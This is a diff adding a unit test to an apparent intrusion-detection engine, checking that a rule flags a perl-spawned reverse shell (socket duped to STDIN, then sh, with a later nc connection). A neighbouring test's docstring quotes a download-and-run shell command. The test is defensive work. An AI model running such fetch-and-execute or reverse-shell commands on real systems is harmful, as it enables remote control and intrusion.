@@ -246,6 +246,24 @@ def test_pipe_stage_with_an_exited_writer_uses_a_nearby_fetch(tmp_path: Path) ->
     assert rules_of(h.run(v)) == ["SL-C2-001"]
 
 
+def test_a_socket_on_stdin_connected_by_the_process_itself(tmp_path: Path) -> None:
+    """perl connects, dups the socket to STDIN and execs sh (same pid), and
+    the script sleeps 12 s before its channel: the own pid was never the
+    fetch and a connect 10 s before was too old (review)."""
+    h = detector(config(tmp_path))
+    sh = staged(exec_(DROP, DET, "/bin/sh", ["sh"], pid=51), origin=STDIN_SOCKET)
+    fetch = connect(DROP, DET - 30, "198.51.100.5", 7777, executable="/usr/bin/perl", pid=51)
+    later = connect(DROP, DET + 12, "203.0.113.66", 21999, executable="/usr/bin/nc", pid=52)
+    alerts = h.run(window(DET + 15, seconds=60, execs=[sh], connects=[fetch, later]))
+    assert rules_of(alerts) == ["SL-C2-001"]
+    assert alerts[0]["sluice"]["evidence"]["chain"][0]["destination"] == "198.51.100.5:7777"
+    # the same process's connect after the exec is the channel, not the fetch
+    h2 = detector(config(tmp_path))
+    sh2 = staged(exec_(DROP, DET, "/bin/sh", ["sh"], pid=61), origin=STDIN_SOCKET)
+    own_after = connect(DROP, DET + 1, "198.51.100.9", 80, pid=61)
+    assert h2.run(window(DET + 15, seconds=60, execs=[sh2], connects=[own_after])) == []
+
+
 def test_a_downloaded_script_in_a_writable_path_is_a_stage(tmp_path: Path) -> None:
     """`wget -O /tmp/s.sh URL; sh /tmp/s.sh`: the interpreter is no new
     executable and nothing is piped, so the chain ran unnoticed (review).
